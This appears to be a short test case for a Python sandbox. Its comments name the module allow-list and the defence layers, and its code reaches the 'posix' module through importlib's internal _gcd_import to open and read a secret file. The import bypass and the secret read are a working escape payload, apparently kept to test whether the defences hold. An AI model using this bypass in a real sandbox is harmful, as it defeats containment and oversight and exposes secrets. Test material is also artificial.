# class: import machinery
# technique: the machinery below importlib
# layers: analyzer, landlock, seccomp, identity
# code: user
# allow: codecs, importlib, inspect, io, linecache, pathlib, pickle, timeit, uuid
# witness: secret
# interpreter-gap: yes
host = _items[0]["json"]
import importlib
reached = importlib._bootstrap._gcd_import("posix")
return [{"json": {"reached": reached.read(reached.open(host["secret"], 0), 4096).decode()}}]
